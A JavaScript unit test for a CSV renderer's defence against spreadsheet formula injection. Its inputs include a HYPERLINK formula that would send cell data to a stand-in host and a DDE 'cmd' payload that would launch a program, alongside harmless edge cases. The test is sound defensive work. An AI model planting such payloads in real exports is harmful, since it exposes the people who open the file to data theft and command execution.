import { suite } from '../../../test/harness/suite.js';
import * as assert from 'uvu/assert';
import { toCsv } from './render.js';

const csv = suite('toCsv');

csv('text a spreadsheet would run as a formula is written as text; numbers and other text are not touched', () => {
  const rows = [
    { text: '=HYPERLINK("http://x/?"&A1)', n: -5 },
    { text: "+1+cmd|' /C calc'!A0", n: '-7' },
    { text: '@SUM(1)', n: '+1.5e3' },
    { text: '-- =1+1\nSELECT 2', n: 0 },
    { text: '\tSELECT', n: '-.5' },
    { text: 'SELECT 1', n: null },
    { text: 'a-b=c', n: '-' },
  ];
  assert.is(toCsv(rows), [
    'text,n',
    `"'=HYPERLINK(""http://x/?""&A1)",-5`,
    `'+1+cmd|' /C calc'!A0,-7`,
    `'@SUM(1),+1.5e3`,
    `"'-- =1+1\nSELECT 2",0`,
    `'\tSELECT,-.5`,
    'SELECT 1,',
    `a-b=c,'-`,
    '',
  ].join('\r\n'));
});

csv.run();
